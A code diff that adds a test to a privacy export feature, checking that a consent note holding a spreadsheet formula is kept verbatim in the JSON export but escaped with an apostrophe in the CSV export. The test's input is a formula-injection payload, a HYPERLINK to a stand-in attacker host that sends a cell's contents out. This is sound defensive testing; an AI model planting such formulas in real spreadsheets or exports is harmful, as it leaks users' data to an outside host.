@@ -108,3 +108,19 @@ def test_the_export_holds_the_persons_consents_and_anonymising_empties_their_not
     personal_data.apply(personal_data.plan(entities().get("client"), [zoe.id]))
     db.session.commit()
     assert db.session.scalar(select(Consent.note)) is None and db.session.scalar(select(Consent.given)) is True
+
+
+def test_the_export_s_csv_quotes_what_a_spreadsheet_would_run(app, staff, admin_client):
+    """A note typed as "=HYPERLINK(…)" opens as text in a spreadsheet; the JSON keeps it as typed."""
+    from kernel.testing import give_consent
+    from plugins.privacy.consent.models import Consent
+
+    zoe = a_client_with_data(staff)
+    give_consent("client", zoe.id, "sms_referrals", user=staff)
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    db.session.execute(Consent.__table__.update().values(note=formula))
+    db.session.commit()
+    archive = unzip(admin_client.get(f"/privacy/people/clients/{zoe.id}/export.zip"))
+    assert formula in json.loads(archive.read("privacy.consents.json"))[0].values()
+    table = archive.read("privacy.consents.csv").decode("utf-8-sig")
+    assert "'=HYPERLINK" in table and ',=HYPERLINK' not in table and '"=HYPERLINK' not in table
